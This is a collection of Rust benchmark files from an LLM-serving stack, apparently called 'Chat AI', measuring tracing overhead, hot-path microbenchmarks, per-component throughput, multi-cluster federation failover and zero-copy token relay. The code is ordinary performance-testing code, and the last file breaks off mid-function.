fn bench_config() -> StreamingConfig {
    StreamingConfig {
        // Keep the stall policy out of the measurement: the free-running
        // backend intentionally outpaces the chain.
        stall_buffer: 1_000_000,
        stall_timeout: Duration::from_secs(60),
        heartbeat: Duration::from_secs(30),
        ..Default::default()
    }
}

/// Run `streams` concurrent streams of `max_tokens` each to completion
/// with tracing globally on or off.
fn run_cell(traced: bool, streams: usize, max_tokens: u64, cell_seed: u64) -> Json {
    trace::set_enabled(traced);
    let chain = Chain::launch(bench_config());
    let url = chain.gateway_http.url();

    // Warm the chain (SSH dial, routing, pools) outside the window.
    {
        let mut client = Client::new(&url);
        let _ = client.send_streaming(&stream_request(4, None), |_| {});
    }
    let tokens_before = chain.llm.engine.stats.tokens_generated.load(Ordering::Relaxed);
    let finalized_before = trace::tracer().finalized_total();
    let allocs_before = ALLOC_COUNT.load(Ordering::Relaxed);
    let t0 = Instant::now();

    let mut handles = Vec::new();
    for i in 0..streams {
        let url = url.clone();
        let id = traced.then(|| TraceId::from_u64(cell_seed + i as u64));
        handles.push(std::thread::spawn(move || {
            let mut client = Client::new(&url);
            let mut bytes = 0u64;
            let ok = client
                .send_streaming(&stream_request(max_tokens, id), |chunk| {
                    bytes += chunk.len() as u64;
                })
                .is_ok();
            (ok, bytes)
        }));
    }
    let mut completed = 0usize;
    for h in handles {
        if let Ok((ok, _)) = h.join() {
            completed += ok as usize;
        }
    }

    let elapsed = t0.elapsed().as_secs_f64();
    let allocs = ALLOC_COUNT.load(Ordering::Relaxed) - allocs_before;
    let tokens = chain
        .llm
        .engine
        .stats
        .tokens_generated
        .load(Ordering::Relaxed)
        - tokens_before;
    let finalized = trace::tracer().finalized_total() - finalized_before;
    chain.shutdown();

    Json::obj()
        .set("traced", traced)
        .set("streams", streams as u64)
        .set("completed", completed as u64)
        .set("tokens", tokens)
        .set("tokens_per_sec", tokens as f64 / elapsed.max(1e-9))
        .set("allocations", allocs)
        .set("allocs_per_token", allocs as f64 / (tokens.max(1)) as f64)
        .set("finalized", finalized)
        .set("elapsed_s", elapsed)
}

fn find_cell(cells: &[Json], traced: bool, streams: u64) -> Option<&Json> {
    cells.iter().find(|c| {
        c.bool_field("traced") == Some(traced) && c.u64_field("streams") == Some(streams)
    })
}

fn main() {
    let smoke = bench::smoke();
    let max_tokens = if smoke { 48u64 } else { 256u64 };
    let stream_counts: &[usize] = &[1, 16];

    println!("Ablation: end-to-end tracing on/off across the streaming chain");
    println!(
        "chain: gateway -> hpc proxy -> ssh -> cloud interface -> llm server; \
         {max_tokens} tokens/stream, free-running decode\n"
    );
    println!(
        "{:>8} {:>8} {:>14} {:>14} {:>10} {:>10}",
        "tracing", "streams", "tok/s", "allocs/tok", "finalized", "completed"
    );

    let mut cells = Vec::new();
    let mut seed = 0xB3AC_0000u64;
    for &traced in &[false, true] {
        for &streams in stream_counts {
            let row = run_cell(traced, streams, max_tokens, seed);
            seed += 0x100;
            println!(
                "{:>8} {:>8} {:>14.0} {:>14.2} {:>10} {:>10}",
                if traced { "on" } else { "off" },
                streams,
                row.f64_field("tokens_per_sec").unwrap_or(0.0),
                row.f64_field("allocs_per_token").unwrap_or(0.0),
                row.u64_field("finalized").unwrap_or(0),
                row.u64_field("completed").unwrap_or(0),
            );
            cells.push(row);
        }
    }
    // Leave the process-wide switch in its default state.
    trace::set_enabled(true);

    let on = find_cell(&cells, true, 16);
    let off = find_cell(&cells, false, 16);
    let on_tps = on.and_then(|c| c.f64_field("tokens_per_sec")).unwrap_or(0.0);
    let off_tps = off.and_then(|c| c.f64_field("tokens_per_sec")).unwrap_or(0.0);
    let on_apt = on.and_then(|c| c.f64_field("allocs_per_token")).unwrap_or(0.0);
    let off_apt = off.and_then(|c| c.f64_field("allocs_per_token")).unwrap_or(0.0);
    let on_finalized = on.and_then(|c| c.u64_field("finalized")).unwrap_or(0);
    let on_streams = on.and_then(|c| c.u64_field("streams")).unwrap_or(1);

    // Parity ratios (~1.0 when tracing is free on the hot path). The +1
    // smoothing keeps the allocation ratio stable when both sides are
    // already near zero allocations per token.
    let throughput_parity = on_tps / off_tps.max(1e-9);
    let alloc_parity = (off_apt + 1.0) / (on_apt + 1.0);
    let extra_allocs_per_token = (on_apt - off_apt).max(0.0);
    // Every traced stream must yield a finalized TTFT attribution.
    let finalized_ratio = on_finalized as f64 / on_streams.max(1) as f64;

    println!(
        "\n16-stream forwarded-token throughput: tracing-on {throughput_parity:.3}x of off \
         ({on_tps:.0} vs {off_tps:.0} tok/s)"
    );
    println!(
        "allocations/token: {off_apt:.2} (off) -> {on_apt:.2} (on), \
         +{extra_allocs_per_token:.3} per token"
    );
    println!(
        "traced streams finalized: {on_finalized}/{on_streams} ({:.0}%)",
        finalized_ratio * 100.0
    );

    let summary = Json::obj()
        .set("tracing_on_tokens_per_sec_16", on_tps)
        .set("tracing_off_tokens_per_sec_16", off_tps)
        .set("throughput_parity", throughput_parity)
        .set("allocs_per_token_on", on_apt)
        .set("allocs_per_token_off", off_apt)
        .set("alloc_parity", alloc_parity)
        .set("extra_allocs_per_token", extra_allocs_per_token)
        .set("finalized_ratio", finalized_ratio);
    bench::emit_json(
        "ablation_tracing",
        &Json::obj().set("cells", cells).set("summary", summary),
    );
}
