//! Microbenchmarks of the hot paths (perf pass §Perf): JSON parse,
//! HTTP round-trip, SSH exec round-trip, routing-table pick, KV block
//! manager admit/append/release (with and without prefix sharing),
//! decode step.

use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::util::http::{Client, Request, Response, Server};
use chat_ai::util::json;

fn bench(name: &str, mut iters: u64, mut f: impl FnMut()) {
    // warmup
    for _ in 0..iters / 10 {
        f();
    }
    let t0 = Instant::now();
    for _ in 0..iters {
        f();
    }
    let per = t0.elapsed().as_secs_f64() / iters as f64;
    if per > 1e-3 {
        iters = iters.max(1);
        println!("{name:<42} {:>10.2} ms/op", per * 1e3);
    } else {
        println!("{name:<42} {:>10.2} µs/op", per * 1e6);
    }
}

fn main() {
    let doc = r#"{"model":"llama3-70b","messages":[{"role":"user","content":"count from 1 to 10 please, slowly"}],"max_tokens":64,"stream":true}"#;
    bench("json parse (chat request)", 200_000, || {
        let _ = json::parse(doc).unwrap();
    });
    let v = json::parse(doc).unwrap();
    bench("json serialize (chat request)", 200_000, || {
        let _ = v.to_string();
    });

    let server = Server::serve("127.0.0.1:0", "echo", 4, Arc::new(|_req: &Request| {
        Response::text(200, "ok")
    }))
    .unwrap();
    let mut client = Client::new(&server.url());
    bench("http keep-alive round-trip", 20_000, || {
        assert_eq!(client.get("/x").unwrap().status, 200);
    });

    // SSH exec round-trip (no latency injection).
    use chat_ai::ssh::{AuthorizedKey, SshClient, SshServer, SshServerConfig};
    let sshd = SshServer::bind(
        "127.0.0.1:0",
        SshServerConfig {
            keys: vec![AuthorizedKey { fingerprint: "k".into(), force_command: None }],
            exec_latency: Duration::ZERO,
            workers: 4,
            ..Default::default()
        },
    )
    .unwrap();
    sshd.register_executable("noop", |ctx| {
        (ctx.stdout)(b"ok");
        0
    });
    let ssh = SshClient::connect(sshd.addr(), "k").unwrap();
    bench("ssh exec round-trip", 20_000, || {
        assert_eq!(ssh.exec("noop", b"payload").unwrap().exit_code, 0);
    });

    // Routing table pick under contention-free conditions.
    use chat_ai::scheduler::{InstanceEntry, RoutingTable};
    use chat_ai::util::rng::Rng;
    let table = RoutingTable::new();
    for job in 1..=8u64 {
        table.insert(InstanceEntry {
            service: "svc".into(),
            job,
            node: format!("g{job}"),
            port: 40000 + job as u16,
            addr: None,
            ready: false,
        });
        table.mark_ready(job, "127.0.0.1:1".parse().unwrap());
    }
    let mut rng = Rng::new(1);
    bench("routing table pick_ready (8 instances)", 500_000, || {
        assert!(table.pick_ready("svc", &mut rng).is_some());
    });

    // KV block manager hot paths: the engine calls these once per
    // admission and once per generated token per sequence.
    use chat_ai::llm::BlockManager;
    let prompt: Vec<i32> = (0..256).map(|i| (i % 250) + 1).collect();
    let mut seq = 1u64;

    // Baseline allocator (prefix cache off): pure alloc/free.
    let mut bm = BlockManager::with_options(1024, 16, false, 0);
    bench("kv admit+release 256 tok (cache off)", 50_000, || {
        bm.admit(seq, &prompt).unwrap();
        bm.release(seq).unwrap();
        seq += 1;
    });

    // Shared prefix: a resident sibling keeps the blocks live, so every
    // admission attaches 16 blocks by refcount instead of allocating.
    let mut bm = BlockManager::with_options(1024, 16, true, 0);
    bm.admit(0, &prompt).unwrap();
    bench("kv admit+release 256 tok (shared prefix)", 50_000, || {
        bm.admit(seq, &prompt).unwrap();
        bm.release(seq).unwrap();
        seq += 1;
    });

    // Decode growth: one admission, 240 appends (15 block boundaries),
    // one release — the per-sequence lifecycle of a long generation.
    let mut bm = BlockManager::with_options(1024, 16, false, 0);
    bench("kv admit+append*240+release (cache off)", 5_000, || {
        bm.admit(seq, &prompt[..16]).unwrap();
        for i in 0..240 {
            bm.append_token(seq, (i % 250) + 1).unwrap();
        }
        bm.release(seq).unwrap();
        seq += 1;
    });
    let mut bm = BlockManager::with_options(1024, 16, true, 0);
    bench("kv admit+append*240+release (cache on)", 5_000, || {
        bm.admit(seq, &prompt[..16]).unwrap();
        for i in 0..240 {
            bm.append_token(seq, (i % 250) + 1).unwrap();
        }
        bm.release(seq).unwrap();
        seq += 1;
    });

    // Real decode step through PJRT (tiny model), if artifacts exist.
    let artifacts = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("artifacts");
    if artifacts.join("manifest.json").exists() {
        use chat_ai::runtime::ModelExecutor;
        let exec = ModelExecutor::global(&artifacts);
        exec.load("tiny").unwrap();
        let (_, kv) = exec.prefill("tiny", &[1, 2, 3]).unwrap();
        let mut kvs = vec![kv];
        bench("PJRT decode step (tiny, batch 1)", 300, || {
            let (l, new_kvs) = exec
                .decode("tiny", vec![5], vec![3], std::mem::take(&mut kvs))
                .unwrap();
            kvs = new_kvs;
            assert!(l[0][0].is_finite());
        });
        let (_, kv) = exec.prefill("tiny", &[1, 2, 3]).unwrap();
        let mut kvs8: Vec<_> = (0..8).map(|_| kv.clone()).collect();
        bench("PJRT decode step (tiny, batch 8)", 300, || {
            let (l, new_kvs) = exec
                .decode("tiny", vec![5; 8], vec![3; 8], std::mem::take(&mut kvs8))
                .unwrap();
            kvs8 = new_kvs;
            assert!(l[0][0].is_finite());
        });
        bench("prefill (tiny, 3 tokens)", 200, || {
            let _ = exec.prefill("tiny", &[1, 2, 3]).unwrap();
        });
    } else {
        println!("(artifacts not built; skipping PJRT microbenches)");
    }
}
