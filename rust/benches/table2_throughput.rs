//! Table 2 — per-component throughput (RPS), measured by saturating each
//! component in isolation with the Locust-like closed-loop generator.
//!
//! Paper: Apache 3000+, Kong 3000+, web app 1300–1800, middleware
//! 200–300, SSH hops 200, single word from 7B 100, sentences
//! 27 / 8 / 2 / 2 RPS for Neural-7B / Mixtral / Qwen-72B / Llama3-70B.
//! Large-model rows run on the calibrated analytic backends
//! (DESIGN.md §Substitutions) — shapes, not absolute H100 numbers.

use std::sync::Arc;
use std::time::Duration;

use chat_ai::config::StackConfig;
use chat_ai::coordinator::Stack;
use chat_ai::llm::{LlmServer, PerfProfile, SimBackend};
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;
use chat_ai::workload::{run_closed_loop, LoadGenConfig};

fn bench_http(name: &str, url: &str, req: Request, concurrency: usize, paper: &str) {
    bench_http_for(name, url, req, concurrency, paper, Duration::from_secs(3));
}

/// Slow LLM rows need a long window: a 3 s window over multi-second
/// service times measures queue-drain transients, not steady state.
fn bench_http_for(
    name: &str,
    url: &str,
    req: Request,
    concurrency: usize,
    paper: &str,
    duration: Duration,
) {
    let url = url.to_string();
    let result = run_closed_loop(
        &LoadGenConfig {
            concurrency,
            duration,
            warmup: Duration::from_millis(500),
        },
        move |_| {
            let mut client = Client::new(&url);
            let req = req.clone();
            move || client.send(&req).map(|r| r.status < 500).unwrap_or(false)
        },
    );
    println!(
        "{:<38} {:>8.0} RPS   [paper: {paper}]  ({} errs)",
        name,
        result.rps(),
        result.errors
    );
}

fn chat_request(service: &str, content: &str, max_tokens: u64) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", content)],
        )
        .set("max_tokens", max_tokens);
    Request::new("POST", &format!("/{service}/v1/chat/completions"))
        .with_header("x-api-key", "t2")
        .with_body(body.to_string().into_bytes())
}

fn main() -> anyhow::Result<()> {
    chat_ai::util::logging::init();
    println!("Table 2: Throughput per component (closed-loop saturation)\n");

    // --- web-side components, isolated --------------------------------
    let stack = Stack::launch(StackConfig::default())?; // no injected SSH latency
    anyhow::ensure!(stack.wait_ready(Duration::from_secs(180)), "not ready");
    let service = stack.config.services[0].name.clone();
    stack.gateway.add_api_key("t2", "bench");
    stack.sso.register_user("bench", "bench@uni.de");
    let session = stack.sso.login("bench").unwrap();

    // Apache-equivalent: the SSO reverse proxy serving the static page.
    bench_http(
        "Auth reverse proxy (Apache)",
        &stack.auth_url(),
        Request::new("GET", "/").with_header("cookie", &format!("session={session}")),
        32,
        "3000+",
    );
    // Kong-equivalent: gateway routing to the web app static page.
    bench_http(
        "API Gateway (Kong)",
        &stack.gateway_url(),
        Request::new("GET", "/").with_header("x-api-key", "t2"),
        32,
        "3000+",
    );
    // Web interface static serving, direct.
    bench_http(
        "Chat AI Web Interface",
        &stack.webapp_server.url(),
        Request::new("GET", "/"),
        32,
        "1300-1800",
    );
    // The middleware row: webapp /api/chat validation + forward to the
    // gateway 404 (validation cost dominates; no LLM involvement).
    bench_http(
        "Chat AI Web Interface Middleware",
        &stack.webapp_server.url(),
        Request::new("POST", "/api/chat").with_body(
            Json::obj()
                .set("model", "nonexistent-model")
                .set(
                    "messages",
                    vec![Json::obj().set("role", "user").set("content", "x")],
                )
                .to_string()
                .into_bytes(),
        ),
        32,
        "200-300",
    );
    // SSH to HPC service node (saia probe through the proxy's connection).
    {
        let proxy = stack.hpc_proxy.clone();
        let result = run_closed_loop(
            &LoadGenConfig {
                concurrency: 32,
                duration: Duration::from_secs(3),
                warmup: Duration::from_millis(300),
            },
            move |_| {
                let proxy = proxy.clone();
                move || proxy.probe().is_ok()
            },
        );
        println!(
            "{:<38} {:>8.0} RPS   [paper: 200]  ({} errs)",
            "SSH to HPC Service node",
            result.rps(),
            result.errors
        );
    }
    // SSH to HPC GPU node (probe the instance's /health through the chain).
    {
        let proxy = stack.hpc_proxy.clone();
        let svc = service.clone();
        let result = run_closed_loop(
            &LoadGenConfig {
                concurrency: 32,
                duration: Duration::from_secs(3),
                warmup: Duration::from_millis(300),
            },
            move |_| {
                let proxy = proxy.clone();
                let svc = svc.clone();
                move || matches!(proxy.probe_service(&svc), Ok(200))
            },
        );
        println!(
            "{:<38} {:>8.0} RPS   [paper: 200]  ({} errs)",
            "SSH to HPC GPU node",
            result.rps(),
            result.errors
        );
    }
    stack.shutdown();

    // --- LLM rows on dedicated sim servers (paper's H100 profiles) -----
    println!();
    let word_rows: &[(&str, &str, u64, usize, &str)] = &[
        ("Single word from 7B LLM", "intel-neural-7b", 1, 64, "100"),
    ];
    let sentence_rows: &[(&str, &str, usize, &str)] = &[
        ("Sentence from Intel Neural 7B LLM", "intel-neural-7b", 64, "27"),
        ("Sentence from Mixtral 8x7B LLM", "mixtral-8x7b", 64, "8"),
        ("Sentence from Qwen1.5 72B LLM", "qwen1.5-72b", 48, "2"),
        ("Sentence from Meta Llama3 70B LLM", "llama3-70b", 48, "2"),
    ];
    for (name, profile, max_tokens, conc, paper) in word_rows {
        let server = LlmServer::start(
            profile,
            Arc::new(SimBackend::new(PerfProfile::by_name(profile).unwrap())),
            64,
        )?;
        let req = Request::new("POST", "/v1/chat/completions").with_body(
            Json::obj()
                .set(
                    "messages",
                    vec![Json::obj().set("role", "user").set("content", "Say one word")],
                )
                .set("max_tokens", *max_tokens)
                .to_string()
                .into_bytes(),
        );
        bench_http_for(name, &server.url(), req, *conc, paper, Duration::from_secs(10));
        server.stop();
    }
    for (name, profile, conc, paper) in sentence_rows {
        let server = LlmServer::start(
            profile,
            Arc::new(SimBackend::new(PerfProfile::by_name(profile).unwrap())),
            64,
        )?;
        // "count from 1 to 10" — the paper's prompt; the sim emits exactly
        // that sentence (~25 tokens) then EOS.
        let req = Request::new("POST", "/v1/chat/completions").with_body(
            Json::obj()
                .set(
                    "messages",
                    vec![Json::obj()
                        .set("role", "user")
                        .set("content", "count from 1 to 10")],
                )
                .set("max_tokens", 64u64)
                .to_string()
                .into_bytes(),
        );
        bench_http_for(name, &server.url(), req, *conc, paper, Duration::from_secs(15));
        server.stop();
    }
    Ok(())
}
