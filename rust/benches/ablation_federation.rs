//! Ablation: multi-cluster federation. Runs the fig5-style request mix
//! (popularity-weighted model namespace) against 1/2/3 federated clusters
//! and reports throughput + latency percentiles, then a cluster-outage
//! drill: kill one of three clusters mid-run and verify traffic fails over
//! — at most the in-flight requests on the dead cluster may drop, and
//! every subsequent request must succeed via the survivors.

use std::sync::Arc;
use std::time::Duration;

use chat_ai::config::{ClusterSpec, ServiceSpec, StackConfig};
use chat_ai::coordinator::FederatedStack;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;
use chat_ai::util::rng::Rng;
use chat_ai::workload::{bench, run_closed_loop, LoadGenConfig};

/// Fig5-style mix: the popular small model takes most traffic, the large
/// models the tail (weights sum to 100).
const MIX: &[(&str, u64)] = &[
    ("intel-neural-7b", 70),
    ("mixtral-8x7b", 20),
    ("llama3-70b", 10),
];

fn service(name: &str) -> ServiceSpec {
    ServiceSpec {
        name: name.to_string(),
        model: name.to_string(), // analytic profile backends
        gpus: 1,
        min_instances: 1,
        max_instances: 2,
        target_concurrency: 16.0,
    }
}

fn launch(n_clusters: usize) -> FederatedStack {
    let clusters = (0..n_clusters)
        .map(|i| ClusterSpec::named(&format!("hpc-{}", (b'a' + i as u8) as char), 6))
        .collect();
    let config = StackConfig {
        services: MIX.iter().map(|(name, _)| service(name)).collect(),
        clusters,
        keepalive: Duration::from_millis(100),
        ..Default::default()
    };
    let stack = FederatedStack::launch(config).expect("launch federated stack");
    assert!(stack.wait_ready(Duration::from_secs(120)), "stack not ready");
    stack.gateway.add_api_key("bench", "bench-user");
    stack
}

fn pick_service(rng: &mut Rng) -> &'static str {
    let total: u64 = MIX.iter().map(|(_, w)| w).sum();
    let mut roll = rng.below(total);
    for (name, w) in MIX {
        if roll < *w {
            return name;
        }
        roll -= w;
    }
    MIX[0].0
}

fn chat_request(service: &str) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count")],
        )
        .set("max_tokens", 8u64);
    Request::new("POST", &format!("/{service}/v1/chat/completions"))
        .with_header("x-api-key", "bench")
        .with_body(body.to_string().into_bytes())
}

fn run_mix(gateway: &str, concurrency: usize, duration: Duration) -> chat_ai::workload::LoadResult {
    let gateway = gateway.to_string();
    run_closed_loop(
        &LoadGenConfig {
            concurrency,
            duration,
            warmup: Duration::from_millis(500),
        },
        move |worker| {
            let mut client = Client::new(&gateway);
            let mut rng = Rng::new(0xF3D ^ worker as u64);
            move || {
                let svc = pick_service(&mut rng);
                match client.send(&chat_request(svc)) {
                    Ok(resp) => resp.status == 200,
                    Err(_) => false,
                }
            }
        },
    )
}

fn main() {
    let smoke = bench::smoke();
    let (mix_secs, outage_secs, kill_after_ms) =
        if smoke { (2, 4, 1_500) } else { (4, 6, 2_500) };
    println!("Ablation: federation — fig5 request mix across 1/2/3 clusters\n");
    println!(
        "{:>8} {:>10} {:>10} {:>10} {:>8}",
        "clusters", "RPS", "p50 ms", "p99 ms", "errors"
    );
    let mut baseline_rps = 0.0;
    let mut scaleout_2x = 0.0;
    let mut rows = Vec::new();
    for n in 1..=3usize {
        let stack = launch(n);
        let result = run_mix(&stack.gateway_url(), 24, Duration::from_secs(mix_secs));
        if n == 1 {
            baseline_rps = result.rps();
        }
        if n == 2 {
            scaleout_2x = result.rps() / baseline_rps.max(1e-9);
        }
        println!(
            "{:>8} {:>10.1} {:>10.1} {:>10.1} {:>8}   ({:.2}x vs 1 cluster)",
            n,
            result.rps(),
            result.latency.p50() as f64 / 1e3,
            result.latency.p99() as f64 / 1e3,
            result.errors,
            result.rps() / baseline_rps.max(1e-9),
        );
        rows.push(
            Json::obj()
                .set("clusters", n)
                .set("rps", result.rps())
                .set("p50_ms", result.latency.p50() as f64 / 1e3)
                .set("p99_ms", result.latency.p99() as f64 / 1e3)
                .set("errors", result.errors),
        );
        stack.shutdown();
    }

    // ---- outage drill ----------------------------------------------------
    println!("\nOutage drill: kill 1 of 3 clusters mid-run");
    let stack = Arc::new(launch(3));
    let concurrency = 24;
    let load_stack = stack.clone();
    let load = std::thread::spawn(move || {
        run_mix(
            &load_stack.gateway_url(),
            concurrency,
            Duration::from_secs(outage_secs),
        )
    });
    std::thread::sleep(Duration::from_millis(kill_after_ms));
    assert!(stack.kill_cluster("hpc-b"), "kill hpc-b");
    println!("  killed hpc-b mid-run");
    let result = load.join().expect("load thread");
    println!(
        "  during outage: {:.1} RPS, {} requests, {} errors (bound: {} in-flight)",
        result.rps(),
        result.requests,
        result.errors,
        concurrency
    );
    // At most the requests in flight on the dead cluster may fail; the
    // router's retry-on-next-cluster usually absorbs even those.
    assert!(
        result.errors <= concurrency as u64,
        "failover dropped more than the in-flight requests: {} > {}",
        result.errors,
        concurrency
    );

    // Post-outage: every subsequent request must succeed via survivors.
    let mut client = Client::new(&stack.gateway_url());
    let mut rng = Rng::new(7);
    let mut post_ok = 0;
    for _ in 0..20 {
        let svc = pick_service(&mut rng);
        let resp = client.send(&chat_request(svc)).expect("post-outage request");
        assert_eq!(resp.status, 200, "post-outage request failed: {}", resp.body_str());
        post_ok += 1;
    }
    println!("  post-outage: {post_ok}/20 requests succeeded via survivors");
    let status = stack.router.status_json();
    println!(
        "  router: {} requests, {} failovers, {} exhausted",
        status.u64_field("requests").unwrap_or(0),
        status.u64_field("failovers").unwrap_or(0),
        status.u64_field("exhausted").unwrap_or(0),
    );
    let outage = Json::obj()
        .set("rps", result.rps())
        .set("requests", result.requests)
        .set("errors", result.errors)
        .set("error_bound", concurrency as u64)
        .set("post_outage_ok", post_ok as u64)
        .set("failovers", status.u64_field("failovers").unwrap_or(0));
    if let Ok(stack) = Arc::try_unwrap(stack) {
        stack.shutdown();
    }

    println!("\nreading: throughput scales with cluster count for the popular");
    println!("model (capacity pooling) while p99 tracks the slowest profile;");
    println!("killing a cluster drops at most its in-flight requests — the");
    println!("router's availability→health→load scoring plus breaker+retry");
    println!("absorbs the outage without client-visible downtime.");

    bench::emit_json(
        "ablation_federation",
        &Json::obj()
            .set("rows", rows)
            .set("outage", outage)
            .set("summary", Json::obj().set("scaleout_2x", scaleout_2x)),
    );
}
