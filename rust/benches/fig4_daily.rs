//! Figure 4 — daily Chat AI users (new vs returning).
//! Paper: 400–500 active users on workdays (~100 of them new), clear
//! weekend/holiday dips, slight decline at the July summer break.

use chat_ai::workload::adoption::{simulate, summarize, AdoptionParams};

fn main() {
    let days = simulate(&AdoptionParams::default(), 2024);
    println!("Figure 4: daily users (seed 2024)\n");
    println!("{:>5} {:>3} {:>9} {:>10} {:>7}", "day", "dow", "new", "returning", "active");
    for d in days.iter().skip(40).step_by(1).take(21) {
        let tag = if d.weekday >= 5 { "  (weekend)" } else if d.is_holiday { "  (holiday)" } else { "" };
        println!(
            "{:>5} {:>3} {:>9} {:>10} {:>7}{tag}",
            d.day, d.weekday, d.new_users, d.returning_users, d.active_users()
        );
    }
    let s = summarize(&days);
    println!("\nmean workday actives: {:.0}   [paper: 400-500]", s.mean_workday_actives);
    println!("mean workday new:     {:.0}   [paper: ~100]", s.mean_workday_new);
    println!("weekend/workday dip:  {:.2}   [paper: pronounced dips]", s.weekend_dip);
}
