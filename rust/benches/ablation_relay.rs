//! Ablation: zero-copy token relay + origin coalescing, measured across
//! the real four-hop chain (gateway → HPC proxy → SSH/ForceCommand →
//! cloud interface → LLM server).
//!
//! Relay ON: interior hops forward raw chunk bytes in pool-recycled
//! buffers with vectored/batched writes; the origin serializes each SSE
//! event once into a pooled buffer; the exec channel batches stdout
//! frames. Relay OFF reproduces the PR-2 path: a fresh `Vec` per chunk at
//! every hop, chunk-at-a-time writes, one SSH frame per chunk. Coalescing
//! ON additionally merges tokens arriving within `coalesce_ms` into one
//! chunk at the origin (terminal events and the first token still flush
//! immediately, so TTFT is untouched).
//!
//! Two workloads per mode:
//!  * throughput — the backend decodes at full speed, so the *chain* is
//!    the bottleneck: forwarded-tokens/sec at 1/8/64 concurrent streams
//!    is the relay's capacity, and a process-wide counting allocator
//!    reports heap allocations per delivered token.
//!  * latency — one paced stream (fixed decode step): per-token added
//!    latency = elapsed/tokens − step, exposing the coalescing
//!    latency-for-throughput trade-off.
//!
//! Smoke mode: `CHAT_AI_BENCH_SMOKE=1`; JSON artifact: `CHAT_AI_BENCH_JSON`.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::cloud_interface::CloudInterface;
use chat_ai::gateway::{Gateway, Route};
use chat_ai::hpc_proxy::{HpcProxy, HpcProxyConfig};
use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{tokenizer, Backend, LlmServer};
use chat_ai::scheduler::{DemandTracker, InstanceEntry, RoutingTable};
use chat_ai::ssh::{AuthorizedKey, SshServer, SshServerConfig};
use chat_ai::util::clock::{Clock, RealClock};
use chat_ai::util::http::{relay_pool, Client, Request, Server};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::StreamingConfig;
use chat_ai::workload::bench;

/// Counts every heap allocation so the cells can report allocations per
/// forwarded token. The count includes the whole process (engine, backend,
/// measuring clients) — identical in both modes — so the relay-on vs
/// relay-off *difference* is the interior hops' per-token allocation cost.
struct CountingAlloc;

static ALLOC_COUNT: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOC_COUNT.fetch_add(1, Ordering::Relaxed);
        System.alloc(layout)
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOC_COUNT.fetch_add(1, Ordering::Relaxed);
        System.realloc(ptr, layout, new_size)
    }
}

#[global_allocator]
static ALLOC: CountingAlloc = CountingAlloc;

const KEY: &str = "SHA256:relay-bench-key";

/// A model with a configurable decode step that never EOSes: generation
/// ends only via max_tokens, so every stream delivers exactly its budget.
struct PacedBackend {
    step: Duration,
}

impl PacedBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for PacedBackend {
    fn max_batch(&self) -> usize {
        128
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        if !self.step.is_zero() {
            std::thread::sleep(self.step);
        }
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

/// The full streaming chain with real sockets at every hop.
struct Chain {
    llm: LlmServer,
    _sshd: SshServer,
    proxy: Arc<HpcProxy>,
    _proxy_http: Server,
    _gateway: Arc<Gateway>,
    gateway_http: Server,
}

impl Chain {
    fn launch(step: Duration, streaming: StreamingConfig) -> Chain {
        let llm = LlmServer::start_with(
            "m",
            Arc::new(PacedBackend { step }),
            96,
            streaming.clone(),
        )
        .expect("start llm server");

        let routing = Arc::new(RoutingTable::new());
        routing.insert(InstanceEntry {
            service: "m".into(),
            job: 1,
            node: "gpu01".into(),
            port: 40001,
            addr: None,
            ready: false,
        });
        routing.mark_ready(1, llm.addr());
        let demand = Arc::new(DemandTracker::new(60_000));
        let clock: Arc<dyn Clock> = Arc::new(RealClock::new());
        let ci = CloudInterface::with_streaming(
            routing,
            demand,
            clock,
            Arc::new(|| {}),
            7,
            streaming.clone(),
        );

        let sshd = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                workers: 16,
                exec_workers: 96,
                ..Default::default()
            },
        )
        .expect("bind sshd");
        let exec_ci = ci.clone();
        sshd.register_executable("saia", move |ctx| exec_ci.run(ctx));

        let proxy = HpcProxy::new(HpcProxyConfig {
            ssh_addr: sshd.addr(),
            key_fingerprint: KEY.into(),
            keepalive_interval: Duration::from_millis(500),
            reconnect_backoff: Duration::from_millis(50),
            reconnect_backoff_max: Duration::from_millis(400),
            streaming: streaming.clone(),
        });
        let proxy_http = proxy.serve("127.0.0.1:0", 96).expect("bind proxy http");

        let gateway = Gateway::with_streaming(
            vec![Route::new("m", "/m")
                .public()
                .with_upstream(&proxy_http.addr().to_string())],
            streaming,
        );
        let gateway_http = gateway.serve("127.0.0.1:0", 96).expect("bind gateway");

        Chain {
            llm,
            _sshd: sshd,
            proxy,
            _proxy_http: proxy_http,
            _gateway: gateway,
            gateway_http,
        }
    }

    fn shutdown(self) {
        self.proxy.shutdown();
        self.llm.stop();
    }
}

fn stream_request(max_tokens: u64) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "go")],
        )
        .set("max_tokens", max_tokens)
        .set("stream", true);
